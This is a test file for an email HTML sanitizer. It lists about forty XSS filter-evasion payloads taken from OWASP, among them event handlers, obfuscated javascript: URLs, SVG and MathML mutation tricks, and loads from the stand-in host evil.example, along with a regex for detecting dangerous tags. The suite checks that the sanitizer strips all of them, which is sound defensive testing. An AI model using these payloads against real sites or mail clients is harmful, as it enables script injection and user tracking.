import { expect, test } from "vitest";
import { cleanHtml, htmlOf, previewOf, textOf } from "./clean-html.ts";

// After the OWASP cheat sheet of filter evasion, and what readers of mail have fallen for.
const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="cid:a" onload="alert(1)">',
  "<img src=javascript:alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<input onfocus=alert(1) autofocus>",
  "<body onload=alert(1)>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<template><script>alert(1)</script></template>",
  '<p id="x" name="y" class="z">clobber</p>',
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<xss contenteditable onbeforeinput=alert(1)>x</xss>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

test.each(attacks)("nothing is executed, loaded or reached by %s", (attack) => {
  const clean = cleanHtml(attack);
  const tags = clean.match(/<[^>]*>/g) ?? [];
  const dangerous =
    /\son\w+=|javascript:|vbscript:|data:|style=|srcdoc|evil\.example|<(script|svg|math|iframe|object|embed|form|input|meta|link|base|style|template|xss)/i;
  expect(tags.filter((tag) => dangerous.test(tag))).toEqual([]);
  expect(cleanHtml(clean)).toBe(clean);
});

test("what people write stays: words, lists, tables, links and the message's own pictures", () => {
  const html =
    '<p>Dear <strong>Noor</strong>,</p><ul><li>one</li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><img src="cid:0199" alt="Cup" />';
  expect(cleanHtml(html)).toBe(html);
  expect(cleanHtml('<a href="https://kestrel.example/a?b=1&amp;c=2">shop</a>')).toBe(
    '<a href="https://kestrel.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">shop</a>',
  );
});

test("plain text is shown as it is, and comes back the same", () => {
  const text = 'Tom & "Jerry" <3\nsee <b>you</b>';
  expect(htmlOf(text)).toBe("<p>Tom &amp; &quot;Jerry&quot; &lt;3<br>see &lt;b&gt;you&lt;/b&gt;</p>");
  expect(textOf(htmlOf(text))).toBe(text);
  expect(textOf("<p>one</p><ul><li>two</li><li>three</li></ul><script>four</script>")).toBe("one\ntwo\nthree");
});

test("a preview is one short line; without words it names the files", () => {
  expect(previewOf("  My\n\n order ")).toBe("My order");
  expect(previewOf("x".repeat(500))).toHaveLength(200);
  expect(previewOf(" ", [{ name: "cup.jpg" }, { name: "box.jpg" }])).toBe("cup.jpg, box.jpg");
});
